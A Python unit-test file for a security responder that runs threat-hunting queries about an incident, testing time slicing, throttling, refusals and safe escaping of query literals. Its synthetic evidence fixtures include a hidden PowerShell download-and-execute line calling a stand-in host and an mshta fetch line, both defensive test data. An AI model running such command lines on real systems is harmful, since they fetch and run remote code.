"""Hunting as a responder: what it asks, how it cuts time, what it keeps, and what it says is missing.

Incidents and rows are synthetic (`tests/unit/incidents.py`).
"""

import itertools
import json
from collections.abc import Callable, Mapping, Sequence
from datetime import datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from responders._hunting_plan import ELSEWHERE, EVERYTHING, ONCE, STANDARD, WINDOW, plan, subject_of, terms_of
from responders._hunting_progress import BOUND, MOST_SLICES, Progress
from responders._interface import Again, Clear, Finished, Gathered, Lane, NotObtainable
from responders._kql import NotAQuery, literal, read_query, rendered
from responders._queries import queries, shipped
from responders._refusal import Service
from responders._refusals import refusal_of
from responders.hunt import Hunt
from shared.clients.interface import Column, HuntingRows
from shared.errors import NO_TABLE, Cause, Denied, Rejected, Throttled, TooWide, Transient
from shared.models.action import Action
from shared.models.frozen import Params
from tests.unit.desks import Desk
from tests.unit.incidents import HOST1, HOST2, HOST3, NOW, action, evidence, graph_time

Rows = Sequence[Mapping[str, object]]
Answer = Callable[[str, datetime, datetime], Rows]
TEXTS = shipped()


class Table:
    """A tenant in which events lie a minute apart; answers as it is told, and writes down what it was asked."""

    def __init__(self, answer: Answer = lambda _query, _since, _until: ()) -> None:
        self.asked: list[tuple[str, datetime, datetime]] = []
        self._answer = answer

    def run(self, query: str, since: datetime, until: datetime) -> HuntingRows:
        self.asked.append((query, since, until))
        return HuntingRows((Column("Timestamp", "datetime"),), self._answer(query, since, until))


def incident(*items: object, **members: object) -> bytes:
    """An incident with one alert that names these."""
    alert = {
        "id": "a1",
        "firstActivityDateTime": graph_time(NOW - timedelta(hours=3)),
        "lastActivityDateTime": graph_time(NOW - timedelta(hours=2)),
        "evidence": list(items),
        **members,
    }
    return json.dumps({"id": "7", "alerts": [alert]}).encode()


BAD = evidence(
    "process",
    verdict="malicious",
    mdeDeviceId=HOST1,
    processCommandLine="powershell.exe -nop -w hidden -c IEX(iwr http://203.0.113.66/a.ps1; 'https://evil.example/x')",
    imageFile={"fileName": "powershell.exe", "sha1": "a" * 40, "signer": "Microsoft Windows"},
    userAccount={"accountName": "alice", "userSid": "S-1-5-21-1-2-3-1104"},
)
DROPPED = evidence("file", verdict="malicious", fileDetails={"fileName": "updater.exe", "sha1": "B" * 40})


def desk(
    hunting: Table, snapshot: bytes | None = None, added: Mapping[str, str] | None = None, left: float = 480.0
) -> Desk:
    told = snapshot or incident(BAD, DROPPED)
    return Desk(hunting=hunting, snapshot=told, queries={**TEXTS, **(added or {})}, left=left)


def hunt(query: str = EVERYTHING, **members: object) -> Action:
    params = {"query": query, **({"back": str(members.pop("back"))} if "back" in members else {})}
    return action(responder="hunt", params=Params(params), created=NOW - timedelta(hours=1), **members)


def to_the_end(of: Action, at: Desk, calls: int = 200) -> Gathered:
    for _ in range(calls):
        gathered = Hunt().gather(of, at)
        if not isinstance(gathered, Again):
            return gathered
        of = of.model_copy(update={"progress": gathered.progress, "artefacts": gathered.artefacts})
    raise AssertionError("it never ends")


def lines(kept: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in kept.splitlines()]


def test_it_says_what_it_needs_and_asks_nothing_of_the_device() -> None:
    responder = Hunt()
    assert responder.permissions == ("ThreatHunting.Read.All",)
    assert (responder.name, responder.lane, responder.api, responder.kinds) == ("hunt", Lane.COLLECT, "hunting", ())
    assert not responder.contains
    assert responder.standing(hunt(), [], "", "") == Clear()


def test_it_asks_every_shipped_query_about_its_device_and_its_window() -> None:
    table = Table()
    gathered = to_the_end(hunt(), desk(table))
    assert isinstance(gathered, Finished)
    assert len(table.asked) == len(TEXTS)
    windows = {(since, until) for query, since, until in table.asked if "since = " in query and "join" not in query}
    assert windows == {(NOW - timedelta(hours=27), NOW)}
    about = [query for query, _, _ in table.asked if f'let device = "{HOST1}";' in query]
    assert len(about) == len(TEXTS) - len(ELSEWHERE)


def test_what_is_asked_about_a_device_and_what_about_an_incident_is_everything_together() -> None:
    asked = {}
    for name in (STANDARD, ONCE, EVERYTHING):
        table = Table()
        to_the_end(hunt(name, device="" if name == ONCE else HOST1), desk(table))
        asked[name] = [query.partition("DeviceP")[0] for query, _, _ in table.asked]
    assert sorted([*asked[STANDARD], *asked[ONCE]]) == sorted(asked[EVERYTHING])
    assert len(asked[ONCE]) == len(ELSEWHERE)


def test_elsewhere_is_on_no_device_that_the_incident_concerns() -> None:
    """One that was merely scanned is elsewhere: there the same file would be news."""
    acting = evidence("device", mdeDeviceId=HOST2, roles=["compromised"])
    scanned = evidence("device", mdeDeviceId=HOST3, roles=["scanned"])
    table = Table()
    to_the_end(hunt(ONCE, device=""), desk(table, incident(BAD, DROPPED, acting, scanned)))
    heads = {query.partition("\n")[0] for query, _, _ in table.asked}
    assert heads == {f'let devices = dynamic(["{HOST1}", "{HOST2}"]);'}


def test_what_it_keeps_says_how_it_was_made() -> None:
    at = desk(Table(lambda *_: [{"FileName": "請求.exe", "half": "\ud800"}]))
    gathered = to_the_end(hunt("processes"), at)
    assert isinstance(gathered, Finished)
    head, row = lines(at.kept["data/hunting/processes.jsonl"])
    assert head["hunting"] == "processes"
    assert head["query"].endswith(TEXTS["processes"])
    assert head["schema"] == [{"name": "Timestamp", "type": "datetime"}]
    assert (head["rows"], head["truncated"]) == (1, "")
    assert row["FileName"] == "請求.exe"
    assert "data/incident/incident.json" in at.kept
    assert {each.name for each in gathered.artefacts} == set(at.kept)


def test_it_looks_elsewhere_for_what_the_incident_names_and_not_for_what_is_windows_own() -> None:
    table = Table()
    to_the_end(hunt(), desk(table))
    asked = " ".join(query for query, _, _ in table.asked)
    assert f'dynamic(["{"b" * 40}"])' in asked
    assert "a" * 40 not in asked
    assert 'dynamic(["203.0.113.66"])' in asked
    assert 'dynamic(["evil.example"])' in asked
    assert 'dynamic(["S-1-5-21-1-2-3-1104"])' in asked
    assert 'let terms = dynamic(["powershell", "example", "hidden", "evil"])' in asked


def test_what_the_incident_does_not_name_is_not_asked_and_that_is_said() -> None:
    table = Table()
    gathered = to_the_end(hunt(), desk(table, incident()))
    assert isinstance(gathered, Finished)
    assert not [query for query, _, _ in table.asked if "DeviceId !in" in query]
    assert "same-hashes: the incident names nothing" in gathered.detail


def test_an_incident_that_names_nothing_leaves_nothing_to_be_asked_elsewhere() -> None:
    table = Table()
    gathered = to_the_end(hunt(ONCE, device=""), desk(table, incident()))
    assert isinstance(gathered, Finished)
    assert table.asked == []
    assert "same-hashes: the incident names nothing to look for" in gathered.detail


def test_the_part_of_the_window_that_has_not_come_is_said_to_be_missing() -> None:
    gathered = to_the_end(hunt("processes"), desk(Table()))
    assert isinstance(gathered, Finished)
    assert "what came after 2026-08-13 09:00 UTC: the window goes to 2026-08-14 07:00 UTC" in gathered.detail


def test_one_query_may_be_asked_for_and_how_far_back() -> None:
    table = Table()
    to_the_end(hunt("network", back="P3D"), desk(table))
    [(_, since, until)] = table.asked
    assert until - since == timedelta(days=3)


# an operator's own


def test_an_operators_query_is_asked_like_any_other() -> None:
    own = "// Mine.\n// parameters: device string, hashes strings\n// span: month\nDeviceFileEvents | take 5"
    table = Table()
    at = desk(table, added={"mine": own})
    assert isinstance(to_the_end(hunt("mine"), at), Finished)
    assert table.asked[0][0].endswith(own)
    assert "data/hunting/mine.jsonl" in at.kept


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (None, "no hunting query 'mine'"),
        ("// parameters: devise string\nT", "no 'devise' (string)"),
        ("// parameters: device number\nT", "is no parameter"),
        ("// span: year\nT", "'span: year'"),
        ("// parameters: device strings\nT", "no 'device' (strings)"),
    ],
)
def test_a_query_that_cannot_be_used_is_said_to_be_so(text: str | None, said: str) -> None:
    gathered = to_the_end(hunt("mine"), desk(Table(), added={"mine": text} if text else {}))
    assert isinstance(gathered, NotObtainable)
    assert said in gathered.detail
    assert gathered.todo


def test_no_name_reaches_past_the_folders() -> None:
    read = queries({"../x": "secret", "a": "mine", "processes": "theirs"}.get)
    assert read("a") == "mine"
    assert read("../x") is None
    assert read("processes") == TEXTS["processes"]


# slices


def every_minute(most: int) -> Answer:
    """An event a minute, and an answer that holds no more than `most`."""

    def answer(_query: str, since: datetime, until: datetime) -> Rows:
        first = since + timedelta(seconds=-since.timestamp() % 60)
        count = max(0, -((first - until) // timedelta(minutes=1)))
        return [{"at": (first + timedelta(minutes=each)).isoformat()} for each in range(min(count, most))]

    return answer


def test_an_answer_that_reaches_its_bound_is_asked_for_in_halves_and_nothing_is_lost() -> None:
    own = "// Mine.\n// parameters: device string, since datetime, until datetime\nT | take 300"
    at = desk(Table(every_minute(300)), added={"mine": own})
    gathered = to_the_end(hunt("mine"), at)
    assert isinstance(gathered, Finished)
    found = [
        row["at"] for name, kept in at.kept.items() if name.startswith("data/hunting/mine/") for row in lines(kept)[1:]
    ]
    assert len(found) == len(set(found)) == 27 * 60
    assert "cut at" not in gathered.detail


def test_what_does_not_fit_even_then_is_kept_and_said_to_be_cut() -> None:
    own = "// Mine.\n// parameters: since datetime, until datetime\nT | take 1"
    at = desk(Table(lambda *_: [{}]), added={"mine": own})
    gathered = to_the_end(hunt("mine"), at)
    assert isinstance(gathered, Finished)
    assert "cut at 1 rows" in gathered.detail
    heads = [lines(kept)[0] for name, kept in at.kept.items() if name.startswith("data/hunting/mine/")]
    assert len(heads) == MOST_SLICES
    assert all(head["truncated"] for head in heads)


def test_a_question_over_a_month_is_not_cut_but_said_to_be_short() -> None:
    at = desk(Table(lambda *_: [{}] * 10_000))
    gathered = to_the_end(hunt("same-hashes"), at)
    assert isinstance(gathered, Finished)
    assert lines(at.kept["data/hunting/same-hashes.jsonl"])[0]["truncated"].startswith("cut at 10000")


def test_what_the_service_finds_too_big_is_asked_in_halves() -> None:
    def answer(_query: str, since: datetime, until: datetime) -> Rows:
        if until - since > timedelta(hours=7):
            raise TooWide("Query exceeded the timeout period.")
        return [{}]

    at = desk(Table(answer))
    gathered = to_the_end(hunt("files"), at)
    assert isinstance(gathered, Finished)
    assert len([name for name in at.kept if name.startswith("data/hunting/files/")]) == 4


def test_what_stays_too_big_is_said_and_the_rest_goes_on() -> None:
    def answer(query: str, *_: object) -> Rows:
        if "DeviceImageLoadEvents" in query:
            raise TooWide("UnknownError")
        return [{}]

    gathered = to_the_end(hunt(), desk(Table(answer)))
    assert isinstance(gathered, Finished)
    assert "image-loads: the service did not answer it" in gathered.detail


@given(st.lists(st.sampled_from(["full", "big", "few"]), max_size=40))
def test_slices_cover_the_window_once_whatever_happens(events: list[str]) -> None:
    """In order, without a gap and without an overlap: what is not kept is named as missing."""
    left = list(events)

    def answer(*_: object) -> Rows:
        kind = left.pop(0) if left else "few"
        if kind == "big":
            raise TooWide("too big")
        return [{}] * (10_000 if kind == "full" else 1)

    table = Table(answer)
    at = desk(table)
    to_the_end(hunt("processes"), at)
    overview = json.loads(at.kept["data/hunting/overview.json"]) if "data/hunting/overview.json" in at.kept else None
    kept = sorted(
        (lines(each)[0] for name, each in at.kept.items() if "processes" in name), key=lambda head: head["since"]
    )
    covered = sum((datetime.fromisoformat(h["until"]) - datetime.fromisoformat(h["since"]) for h in kept), timedelta(0))
    assert all(a["until"] <= b["since"] for a, b in itertools.pairwise(kept))
    whole = timedelta(hours=27)
    assert covered == whole or overview is None or any(each["missing"] for each in overview["answered"])


# waiting


def test_it_ends_its_call_in_time_and_goes_on_where_it_was() -> None:
    table = Table()
    at = desk(table, left=10.0)
    first = Hunt().gather(hunt(), at)
    assert isinstance(first, Again)
    assert first.wait == timedelta(0)
    assert len(table.asked) == 1
    assert isinstance(to_the_end(hunt(), at), Finished)


@pytest.mark.parametrize(("asked_for", "waited"), [(840.0, 840.0), (None, 60.0), (0.5, 0.5)])
def test_a_quota_that_is_used_up_is_waited_for_and_nothing_is_asked_twice(
    asked_for: float | None, waited: float
) -> None:
    full = [False, True, False]

    def answer(*_: object) -> Rows:
        if full and full.pop(0):
            raise Throttled("quota", asked_for, cause=Cause.CPU, status=429)
        return [{}]

    table = Table(answer)
    at = desk(table)
    first = Hunt().gather(hunt(), at)
    assert isinstance(first, Again)
    assert first.wait == timedelta(seconds=waited)
    to_the_end(hunt(progress=first.progress, artefacts=first.artefacts), at)
    assert len(table.asked) == len(TEXTS) + 1


def test_a_query_that_this_tenant_refuses_is_said_and_the_rest_goes_on() -> None:
    def answer(query: str, *_: object) -> Rows:
        if "DeviceLogonEvents" in query:
            raise Rejected("400 BadRequest: Failed to resolve table 'DeviceLogonEvents'", status=400)
        return [{}]

    gathered = to_the_end(hunt(), desk(Table(answer)))
    assert isinstance(gathered, Finished)
    assert "logons: refused" in gathered.detail


def test_a_missing_role_is_for_the_machinery_to_tell() -> None:
    def answer(*_: object) -> Rows:
        raise Denied("ThreatHunting.Read.All", status=403)

    with pytest.raises(Denied):
        Hunt().gather(hunt(), desk(Table(answer)))


def test_a_tenant_without_hunting_is_asked_once_and_is_for_the_machinery_to_remember() -> None:
    def answer(*_: object) -> Rows:
        raise Rejected("Failed to resolve table named 'DeviceProcessEvents'", status=400, code=NO_TABLE)

    table = Table(answer)
    with pytest.raises(Rejected) as error:
        Hunt().gather(hunt(), desk(table))
    assert refusal_of(error.value, Service.GRAPH).name == "not-licensed"
    assert len(table.asked) == 1


def test_a_table_that_is_missing_later_or_in_a_query_of_ones_own_is_only_said() -> None:
    def answer(query: str, *_: object) -> Rows:
        if "DeviceImageLoadEvents" in query:
            raise Rejected("Failed to resolve table named 'DeviceImageLoadEvents'", status=400, code=NO_TABLE)
        return [{}]

    gathered = to_the_end(hunt(), desk(Table(answer)))
    assert isinstance(gathered, Finished)
    assert "image-loads: refused" in gathered.detail
    own = "// Mine.\n// parameters: device string\nDeviceImageLoadEvents | take 5"
    assert isinstance(to_the_end(hunt("mine"), desk(Table(answer), added={"mine": own})), NotObtainable)


def test_trouble_from_the_start_is_for_the_machinery_and_later_trouble_costs_one_query() -> None:
    def never(*_: object) -> Rows:
        raise Transient("503")

    with pytest.raises(Transient):
        Hunt().gather(hunt(), desk(Table(never)))

    def sometimes(query: str, *_: object) -> Rows:
        if "DeviceFileEvents" in query and "union" not in query:
            raise Transient("503")
        return [{}]

    gathered = to_the_end(hunt(), desk(Table(sometimes)))
    assert isinstance(gathered, Finished)
    assert "files: no answer in 3 tries" in gathered.detail


def test_nothing_at_all_is_no_success() -> None:
    def answer(*_: object) -> Rows:
        raise Rejected("no such table", status=400)

    assert isinstance(to_the_end(hunt(), desk(Table(answer))), NotObtainable)


def test_its_notes_stay_small_whatever_happens() -> None:
    """The ledger keeps them between calls."""
    at = desk(Table(lambda *_: [{}] * 10_000), left=10.0)
    of, longest = hunt(), 0
    for _ in range(400):
        gathered = Hunt().gather(of, at)
        if isinstance(gathered, Again):
            longest = max(longest, len(gathered.progress))
            of = of.model_copy(update={"progress": gathered.progress, "artefacts": gathered.artefacts})
    assert 10_000 < longest < 100_000
    assert Progress.model_validate_json(of.progress).answered


# what is looked for


def test_without_an_incident_the_window_lies_round_the_order() -> None:
    subject = subject_of(None, HOST1, NOW - timedelta(days=2), NOW, timedelta(hours=24))
    assert (subject.since, subject.until) == (NOW - timedelta(days=3), NOW - timedelta(days=1))
    assert subject.hashes == ()


def test_an_incident_that_says_nonsense_about_its_time_is_hunted_all_the_same() -> None:
    odd = incident(firstActivityDateTime="0001-01-01T00:00:00Z", lastActivityDateTime="soon")
    subject = subject_of(odd, HOST1, NOW, NOW, timedelta(hours=24))
    assert (subject.since, subject.until) == (NOW - timedelta(hours=24), NOW)
    late = incident(firstActivityDateTime="9999-12-31T23:59:59Z", lastActivityDateTime="9999-12-31T23:59:59Z")
    assert subject_of(late, HOST1, NOW, NOW, timedelta(hours=24)).until == NOW
    for shape in ({"alerts": 7}, {"alerts": [7, {"evidence": 7}, {"evidence": [7, None]}]}, {"alerts": {"a": 1}}):
        assert subject_of(json.dumps(shape).encode(), HOST1, NOW, NOW, timedelta(hours=24)).hashes == ()
    old = incident(firstActivityDateTime="2020-01-01T00:00:00Z", lastActivityDateTime="2020-01-02T00:00:00Z")
    subject = subject_of(old, HOST1, NOW, NOW, timedelta(hours=24))
    assert subject.since < subject.until


@pytest.mark.parametrize(
    ("line", "terms"),
    [
        (r"C:\Windows\System32\rundll32.exe C:\Users\bob\AppData\x7.dll,Start 4711 deadbeef99", ("rundll32", "start")),
        ("mshta http://10.0.0.1/run.hta", ("mshta",)),
        ("", ()),
    ],
)
def test_a_command_lines_telling_words_are_those_that_stay(line: str, terms: tuple[str, ...]) -> None:
    assert terms_of(line) == terms


@given(st.text(max_size=300))
def test_terms_are_plain_words_whatever_the_line_is(line: str) -> None:
    assert all(term.isalnum() and term.isascii() for term in terms_of(line))


def test_every_shipped_query_has_its_place_in_the_standard_hunt() -> None:
    subject = subject_of(incident(BAD, DROPPED), HOST1, NOW, NOW, timedelta(hours=24))
    asked = plan(subject, EVERYTHING, None, TEXTS.get)
    assert {ask.query.name for ask in asked.asks} == set(TEXTS)
    assert {*WINDOW, *ELSEWHERE} <= set(TEXTS)
    assert all((ask.query.most or BOUND) < BOUND for ask in asked.asks)


# literals


@given(st.text(st.characters(exclude_categories=[]), max_size=80) | st.text('"\\\n\r\u2028u', max_size=12))
def test_a_literal_has_no_way_out(value: str) -> None:
    """No quotation mark, backslash or line end but those of the literal itself; all of it shows."""
    inner = literal(value)[1:-1]
    assert inner.isprintable()
    without = inner.replace("\\\\", "").replace('\\"', "")
    assert '"' not in without
    assert all(without[place + 1 : place + 2] == "u" for place, letter in enumerate(without) if letter == "\\")
    assert without.count("\\") == sum(1 + (letter > "\uffff") for letter in value if not letter.isprintable())


def test_a_query_gets_what_it_declares_and_nothing_else() -> None:
    query = read_query("x", "// Title.\n// parameters: since datetime, names strings\nT | take 7")
    assert (query.title, query.most, query.sliced) == ("Title.", 7, False)
    text = rendered(query, {"since": NOW, "names": ("a", 'b"'), "device": "unused"})
    assert (
        text == 'let since = datetime(2026-08-13T09:00:00.000000Z);\nlet names = dynamic(["a", "b\\""]);\n' + query.text
    )
    with pytest.raises(NotAQuery):
        rendered(query, {"since": NOW})
